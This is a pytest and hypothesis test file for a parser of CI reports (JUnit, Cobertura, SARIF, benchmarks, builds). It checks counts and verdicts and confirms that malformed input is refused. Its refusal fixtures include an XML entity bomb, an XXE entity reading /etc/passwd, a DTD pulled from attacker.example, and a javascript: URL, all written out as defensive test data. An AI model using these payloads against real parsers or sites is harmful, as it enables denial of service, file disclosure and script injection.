"""What each format says, and that nothing a stranger sends does more than be refused in words."""

from __future__ import annotations

import json
import time
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.domain.evidence.limits import LARGEST_BODY, Unreadable
from core.domain.evidence.reading import FORMATS, Thresholds, read

SUREFIRE = b"""<?xml version="1.0" encoding="UTF-8"?>
<testsuite xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" name="shop.CartTest" time="0.6" tests="4" errors="1"
  skipped="1" failures="1"><properties><property name="java.version" value="21"/></properties>
  <testcase name="adds" classname="shop.CartTest" time="0.1"/>
  <testcase name="removes" classname="shop.CartTest"><failure message="expected 1" type="AssertionError">at x</failure>
    <system-out><![CDATA[<failure/>]]></system-out></testcase>
  <testcase name="sums" classname="shop.CartTest"><error type="NullPointerException"/></testcase>
  <testcase name="later" classname="shop.CartTest"><skipped message="slow"/></testcase>
  <testcase name="flaky" classname="shop.CartTest"><flakyFailure type="x">once</flakyFailure></testcase>
</testsuite>"""
PYTEST = b"""<?xml version="1.0" encoding="utf-8"?><testsuites name="pytest tests"><testsuite name="pytest" errors="0"
  failures="1" skipped="1" tests="3" time="0.04" timestamp="2026-12-01T10:00:00" hostname="ci">
  <testcase classname="tests.test_cart" name="test_adds" time="0.001"/>
  <testcase classname="tests.test_cart" name="test_sums"><failure message="assert 1 == 2">x</failure></testcase>
  <testcase classname="tests.test_cart" name="test_later"><skipped type="pytest.xfail" message=""/></testcase>
  </testsuite></testsuites>"""
NESTED = b"""<testsuites tests="3" failures="1"><testsuite name="all" tests="3" failures="1">
  <testsuite name="a" tests="1" failures="0"><testcase name="one"/></testsuite>
  <testsuite name="b" tests="2" failures="1"><testcase name="two"/><testcase name="three"><failure/></testcase>
  </testsuite></testsuite></testsuites>"""
COBERTURA = b"""<?xml version="1.0" ?><coverage version="7.6" lines-valid="2000" lines-covered="1655" line-rate="0.8275"
  branch-rate="0.5" branches-covered="1" branches-valid="2" complexity="0"><packages/></coverage>"""
BENCHMARK = {
    "benchmarks": [
        {"name": "checkout p95", "value": 410, "unit": "ms", "limit": 400, "better": "lower"},
        {"name": "requests", "value": 900.5, "unit": "/s", "limit": 800, "better": "higher"},
    ]
}
BUILD = {"build": {"name": "web", "digest": "sha256:" + "ab" * 32, "address": "registry.example/shop/web@sha256:abab"}}
STATEMENT = {
    "verdict": "passed", "url": "https://qa.example/runs/7", "note": "14 of 14 walked", "numbers": {"walked": 14},
}  # fmt: skip


def sarif(*results: dict[str, Any], **run: Any) -> bytes:
    driver = {"name": "Scan", "rules": [{"id": "R1", "defaultConfiguration": {"level": "error"}}, {"id": "R2"}]}
    return json.dumps(
        {"version": "2.1.0", "runs": [{"tool": {"driver": driver}, "results": list(results), **run}]}
    ).encode()


def test_surefire_counts_cases_and_names_what_failed() -> None:
    found = read(SUREFIRE, "regression")
    assert (found.format, found.verdict) == ("junit", "failed")
    assert found.numbers == {"tests": 5, "failed": 2, "errors": 1, "skipped": 1}
    assert found.failing == ("shop.CartTest.removes", "shop.CartTest.sums")


def test_pytest_and_nested_suites_are_counted_once() -> None:
    assert read(PYTEST, "automated").numbers == {"tests": 3, "failed": 1, "errors": 0, "skipped": 1}
    assert read(NESTED, "automated").numbers == {"tests": 3, "failed": 1, "errors": 0, "skipped": 0}
    assert read(NESTED, "automated").failing == ("three",)


@pytest.mark.parametrize(
    ("body", "verdict", "failed", "tests"),
    [
        (b'<testsuite tests="9" failures="2"><testcase name="a"/></testsuite>', "failed", 2, 9),  # it lists one only
        (b'<testsuite tests="9"/>', "passed", 0, 9),
        (b'<testsuite name="s"><error message="no fixture"/></testsuite>', "failed", 1, 1),
        (b'<testsuite><testcase name="a"><skipped/></testcase></testsuite>', "failed", 0, 1),  # nothing was run
        (b'<testsuite tests="-3" failures="x"><testcase name="a"/></testsuite>', "passed", 0, 1),
    ],
)
def test_of_what_a_suite_says_and_lists_the_worse_counts(body: bytes, verdict: str, failed: int, tests: int) -> None:
    found = read(body, "regression")
    assert (found.verdict, found.numbers["failed"], found.numbers["tests"]) == (verdict, failed, tests)


def test_at_most_five_failing_cases_are_named_without_control_signs() -> None:
    cases = "".join(f'<testcase name="t{i}"><failure/></testcase>' for i in range(9))
    odd = '<testcase name="a&#10;b&#x202E;c"><failure/></testcase>'
    found = read(f"<testsuite>{odd}{cases}</testsuite>".encode(), "limited")
    assert found.numbers["failed"] == 10
    assert found.failing == ("a b c", "t0", "t1", "t2", "t3")


def test_coverage_is_a_share_of_lines_that_may_be_too_low() -> None:
    found = read(COBERTURA, "automated")
    assert (found.verdict, found.numbers) == (
        "passed", {"percent": 82.75, "covered": 1655, "lines": 2000, "branches": 50},
    )  # fmt: skip
    assert read(COBERTURA, "automated", Thresholds(coverage=82.75)).verdict == "passed"
    assert read(COBERTURA, "automated", Thresholds(coverage=82.76)).verdict == "failed"
    lines = b'<coverage line-rate="1"><packages><line hits="0"/><line hits="3"/></packages></coverage>'
    assert read(lines, "automated").numbers["percent"] == 50


@pytest.mark.parametrize(
    ("result", "counts", "verdict"),
    [
        ({"level": "error"}, "errors", "failed"),
        ({"level": "warning"}, "warnings", "passed"),
        ({"ruleId": "R1"}, "errors", "failed"),  # the rule's own level
        ({"ruleIndex": 0}, "errors", "failed"),
        ({"ruleId": "R2"}, "warnings", "passed"),  # nobody says one
        ({"ruleId": "R1", "kind": "pass"}, "findings", "passed"),
        ({"ruleId": "R1", "suppressions": [{"kind": "inSource"}]}, "suppressed", "passed"),
        ({"ruleId": "R1", "suppressions": [{"kind": "external", "status": "accepted"}]}, "suppressed", "passed"),
        ({"ruleId": "R1", "suppressions": [{"kind": "external", "status": "underReview"}]}, "errors", "failed"),
        ({"ruleId": "R1", "suppressions": []}, "errors", "failed"),
        ({"ruleId": "R1", "baselineState": "absent"}, "", "passed"),  # it was repaired
    ],
)
def test_sarif_levels_and_suppressions(result: dict[str, Any], counts: str, verdict: str) -> None:
    found = read(sarif(result), "security")
    assert found.verdict == verdict
    assert found.numbers.get(counts, 0) == bool(counts)


def test_sarif_adds_up_its_runs_and_names_what_stands() -> None:
    place = {"physicalLocation": {"artifactLocation": {"uri": "src/a.py"}, "region": {"startLine": 7}}}
    one = json.loads(sarif({"ruleId": "R1", "message": {"text": "a secret"}, "locations": [place]}, {"ruleId": "R2"}))
    one["runs"] *= 2
    found = read(json.dumps(one).encode(), "security")
    assert (found.numbers["errors"], found.numbers["warnings"], found.numbers["runs"]) == (2, 2, 2)
    assert found.failing[0] == "R1: a secret (src/a.py:7)"
    assert found.name == "Scan"
    same = {"ruleId": "R1", "message": {"text": "R1"}}
    assert read(sarif(same), "security").failing == ("R1",), "a rule that says only its own name is named once"
    assert read(sarif({"ruleId": "R2"}), "security", Thresholds(findings="warning")).verdict == "failed"
    broken = read(sarif(invocations=[{"executionSuccessful": False}]), "security")
    assert (broken.verdict, broken.note) == ("failed", "1 of 1 runs did not finish")


def test_a_benchmark_passes_when_all_keep_their_limit() -> None:
    found = read(json.dumps(BENCHMARK).encode(), "performance")
    assert (found.verdict, found.failing) == ("failed", ("checkout p95: 410 ms, at most 400 ms",))
    assert found.numbers == {"benchmarks": 2, "failed": 1, "checkout p95": 410, "requests": 900.5}
    BENCHMARK["benchmarks"][0]["limit"], kept = 410, BENCHMARK["benchmarks"][0]["limit"]
    assert read(json.dumps(BENCHMARK).encode(), "performance").verdict == "passed"
    BENCHMARK["benchmarks"][0]["limit"] = kept


def test_a_build_and_a_statement() -> None:
    build = read(json.dumps(BUILD).encode(), "build").builds[0]
    assert (build.name, build.digest, build.address) == tuple(BUILD["build"].values())
    said = read(json.dumps(STATEMENT).encode(), "uat")
    assert (said.verdict, said.url, said.note, said.numbers) == (
        "passed", "https://qa.example/runs/7", "14 of 14 walked", {"walked": 14},
    )  # fmt: skip


BOMB = b"""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><testsuite><testcase name="&c;"/></testsuite>"""
EXTERNAL = b"""<?xml version="1.0"?><!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<testsuite><testcase name="&x;"/></testsuite>"""
OUTSIDE = b'<!DOCTYPE testsuite SYSTEM "http://attacker.example/x.dtd"><testsuite><testcase name="a"/></testsuite>'


@pytest.mark.parametrize(
    ("body", "why"),
    [
        (BOMB, "unsafe"),
        (EXTERNAL, "unsafe"),
        (OUTSIDE, "unsafe"),
        (BOMB.decode().encode("utf-16"), "unsafe"),
        (b"<testsuite>" * 65, "unsafe"),
        (b"<testsuite>" + b"<a/>" * 400_001, "unsafe"),
        (b"<testsuite>" + b"<testcase/>" * 100_001, "unsafe"),
        (b"[" * 100_000, "syntax"),
        (b'{"runs":' + b"[" * 400_001, "unsafe"),
        (b"<testsuite><testcase></testsuite>", "syntax"),
        (b"<testsuite>&nbsp;</testsuite>", "syntax"),
        (b'<?xml version="1.0" encoding="zzz"?><testsuite/>', "syntax"),
        (b"{", "syntax"),
        (b"PK\x03\x04" + b"\x00" * 40, "archive"),
        (b"\x1f\x8b\x08" + b"\x00" * 40, "archive"),
        (b"results/report.xml".ljust(257, b"\x00") + b"ustar", "archive"),
        (b"<html/>", "format"),
        (b"hello", "format"),
        (b"[]", "format"),
        (b"{}", "format"),
        (b'{"version": "2.0.0", "runs": []}', "format"),
        (b'{"version": "2.1.0", "runs": []}', "content"),
        (b"", "content"),
        (b"<testsuites/>", "content"),
        (b"<coverage/>", "content"),
        (b'{"benchmarks": []}', "content"),
        (b'{"benchmarks": [{"name": "a", "value": 1}]}', "content"),
        (b'{"benchmarks": [{"name": "a", "value": 1e999, "limit": 1}]}', "content"),
        (b'{"benchmarks": [{"name": "a", "value": ' + b"9" * 400 + b', "limit": 1}]}', "content"),
        (b'{"benchmarks": [{"name": "a", "value": true, "limit": 1}]}', "content"),
        (b'{"benchmarks": [{"name": "a", "value": NaN, "limit": 1}]}', "syntax"),
        (b'{"benchmarks": [{"name": "a", "value": 1e999, "limit": 1}]}', "content"),
        (b'{"verdict": "failed", "verdict": "passed", "url": "https://a.example/"}', "syntax"),
        (b'{"verdict": "great", "url": "https://x.example"}', "content"),
        (b'{"verdict": "passed", "url": "javascript:alert(1)"}', "content"),
        (b'{"verdict": "passed", "url": "https://me:pw@x.example"}', "content"),
        (b'{"verdict": "passed", "url": "https://x.example/|<!channel>"}', "content"),
        (b'{"verdict": "passed"}', "content"),
        (b" " * (LARGEST_BODY + 1), "large"),
        (json.dumps(BUILD).encode(), "format"),  # a build proves no regression
    ],
)
def test_what_is_no_result_is_refused_in_words(body: bytes, why: str) -> None:
    began = time.process_time()
    with pytest.raises(Unreadable) as refused:
        read(body, "regression")
    assert refused.value.why == why
    assert 10 < len(str(refused.value)) < 200
    assert time.process_time() - began < 2


@pytest.mark.parametrize(
    "build",
    [
        {"name": "web", "digest": "latest"},
        {"name": "", "digest": "sha256:" + "0" * 64},
        {"name": "web", "digest": "sha256:" + "0" * 64, "address": "https://me:pw@registry.example/web"},
        {"name": "web", "digest": "sha256:" + "0" * 64, "address": "a b"},
        None,
    ],
)
def test_a_build_needs_a_name_and_a_digest(build: object) -> None:
    with pytest.raises(Unreadable):
        read(json.dumps({"build": build}).encode(), "build")


OURS = tuple(json.dumps(x).encode() for x in (BENCHMARK, BUILD, STATEMENT))
GOOD = (SUREFIRE, PYTEST, NESTED, COBERTURA, sarif({"ruleId": "R1"}), *OURS)
_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(
        st.sampled_from(["runs", "version", "results", "tool", "driver", "rules", "id", "level", "kind", "message",
                         "text", "suppressions", "locations", "benchmarks", "builds", "build", "name", "digest",
                         "address", "value", "limit", "verdict", "url", "note", "numbers", "ruleIndex", "invocations"]),
        inner, max_size=6,
    ),
    max_leaves=12,
)  # fmt: skip


@st.composite
def _broken(draw: st.DrawFn) -> bytes:
    """A real report with a piece taken out and something else in its place."""
    body = draw(st.sampled_from(GOOD))
    at, length = draw(st.integers(0, len(body))), draw(st.integers(0, 40))
    return body[:at] + draw(st.binary(max_size=20)) + body[at + length :]


@settings(max_examples=400, deadline=None)
@given(st.one_of(st.binary(max_size=400), _broken(), _JSON.map(lambda x: json.dumps(x).encode()),
                 _JSON.map(lambda x: json.dumps({"version": "2.1.0", "runs": x}).encode())),
       st.sampled_from(["regression", "build", "security"]))  # fmt: skip
def test_whatever_is_sent_is_read_or_refused(body: bytes, kind: str) -> None:
    try:
        found = read(body, kind)
    except Unreadable:
        return
    assert found.format in FORMATS
    assert found.verdict in ("passed", "failed")
    assert len(found.failing) <= 5
    json.dumps(found.numbers, allow_nan=False)
